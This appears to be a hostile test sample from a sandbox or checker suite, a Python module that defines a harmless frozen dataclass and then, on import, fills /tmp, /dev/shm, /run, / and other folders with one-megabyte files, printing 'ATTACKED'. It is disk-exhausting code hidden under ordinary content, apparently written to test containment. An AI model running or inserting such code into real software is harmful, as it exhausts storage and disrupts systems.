"""Fills every file system that it can write to.

Kind: exhausting
Honest twin: accepted/frozen_dataclass
Mark: ATTACKED
"""
# mypy: ignore-errors

from dataclasses import dataclass


@dataclass(frozen=True)
class Point:
    x: float
    y: float


for folder in ("/tmp", "/dev/shm", "/run", "/var/tmp", "/kata", "/", "/dev"):
    for number in range(200):
        try:
            with open(f"{folder}/flood{number}", "wb") as file:
                file.write(bytes(1 << 20))
            print("ATTACKED")
        except OSError:
            break
